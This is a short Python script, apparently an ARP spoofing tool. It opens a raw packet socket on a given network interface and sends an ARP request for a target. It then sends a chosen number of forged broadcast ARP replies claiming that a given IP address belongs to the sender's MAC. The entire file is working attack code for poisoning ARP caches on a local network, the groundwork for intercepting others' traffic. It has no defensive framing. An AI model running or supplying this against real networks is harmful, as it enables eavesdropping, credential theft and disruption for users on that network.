"""What arpspoof does: ask for TARGET's MAC as this host (OWN, its own address), then send N
unsolicited ARP replies on IFACE saying that address CLAIM is at this host's MAC, to TARGET.
Usage: arp_spoof.py IFACE CLAIM TARGET N OWN"""
import socket
import sys
import time

iface, claim, target, n, own = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
mac = s.getsockname()[4]
s.send(
    b"\xff" * 6 + mac + b"\x08\x06"  # Ethernet: broadcast, ARP
    + b"\x00\x01\x08\x00\x06\x04\x00\x01"  # Ethernet/IPv4, request
    + mac + socket.inet_aton(own)  # sender: this host, as itself
    + b"\x00" * 6 + socket.inet_aton(target)
)
time.sleep(0.05)
for _ in range(n):
    frame = (
        b"\xff" * 6 + mac + b"\x08\x06"  # Ethernet: broadcast, ARP
        + b"\x00\x01\x08\x00\x06\x04\x00\x02"  # Ethernet/IPv4, reply
        + mac + socket.inet_aton(claim)  # sender: our MAC claims CLAIM
        + b"\xff" * 6 + socket.inet_aton(target)
    )
    s.send(frame)
    time.sleep(0.05)
